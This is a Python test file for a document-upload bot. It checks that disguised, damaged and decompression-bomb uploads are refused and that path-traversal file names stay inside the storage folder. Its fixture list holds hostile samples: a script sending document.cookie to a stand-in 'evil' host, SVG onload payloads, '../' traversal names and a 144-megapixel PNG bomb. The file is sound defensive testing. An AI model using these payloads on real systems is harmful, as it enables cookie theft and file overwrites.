"""Hostile uploads: the content decides, never the name or the declared type. Disguised files
(HTML, SVG, ZIP or EXE under a PDF or picture name), damaged ones and decompression bombs are
refused with a clear answer, nothing is stored, and a real PDF under a hostile name is stored inside
FILES_DIR under a name of the bot's."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

from bot.config import Settings
from emulator import BotAPIEmulator
from tests.conftest import BotRunner
from tests.e2e import JPEG, PDF, at_documents, snapshot, upload
from tests.test_hostile import assert_clean


def _png(size: tuple[int, int], mode: str = "RGB") -> bytes:
    from PIL import Image

    out = BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


DAMAGED = "cannot be opened"
WRONG_TYPE = "Please send a PDF or a photo (JPG or PNG)"
TOO_LARGE = "too large to open"
HOSTILE_FILES = [
    # (content, file name, declared type, the refusal)
    (
        b"<html><body><script>fetch('//evil/'+document.cookie)</script></body></html>",
        "passport.pdf",
        "application/pdf",
        WRONG_TYPE,
    ),
    (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "../../../etc/degree.svg",
        "image/svg+xml",
        WRONG_TYPE,
    ),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "degree.png", "image/png", WRONG_TYPE),
    (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 200, "passport.pdf", "application/pdf", WRONG_TYPE),
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "contract.pdf.exe", "application/pdf", WRONG_TYPE),
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "..\\..\\passport.jpg", "image/jpeg", WRONG_TYPE),
    (PDF[: len(PDF) * 2 // 3], "passport.pdf", "application/pdf", DAMAGED),
    (JPEG[: len(JPEG) // 2], "passport.jpg", "image/jpeg", DAMAGED),
    (_png((12_000, 12_000), "1"), "passport.png", "image/png", TOO_LARGE),  # 144 MP in a few KB
]


async def test_disguised_damaged_and_oversized_files_are_refused(
    bot: BotRunner, emulator: BotAPIEmulator, settings: Settings
) -> None:
    user = await at_documents(emulator, 975, "passport_copy")
    for content, name, mime, refusal in HOSTILE_FILES:
        replies = await upload(user, emulator, content, name, mime)
        assert refusal in replies[0].plain and "0 of 3 documents" in replies[0].plain, (name, replies[0].plain)
    # The same as photos (Telegram's compressed pictures): a bomb and a cut JPEG.
    for content, refusal in ((_png((12_000, 12_000), "1"), TOO_LARGE), (JPEG[:200], DAMAGED)):
        before = len(user.messages)
        await emulator.wait_processed(await user.send_photo(content))
        assert refusal in user.messages[before].plain, user.messages[before].plain
    assert_clean("en", user.messages)
    files = Path(settings.files_dir)
    assert snapshot(settings)["documents"] == [] and not [p for p in files.rglob("*") if p.is_file()]
    # A real PDF under a hostile name is taken: stored inside FILES_DIR under a name of the bot's.
    saved = await upload(user, emulator, PDF, "../../../../tmp/passport.pdf", "application/pdf")
    assert "Saved" in saved[0].plain
    stored = [p for p in files.rglob("*") if p.is_file()]
    assert len(stored) == 1 and stored[0].parent.parent == files and stored[0].suffix == ".bin"
    assert not list(files.parent.rglob("passport.pdf"))
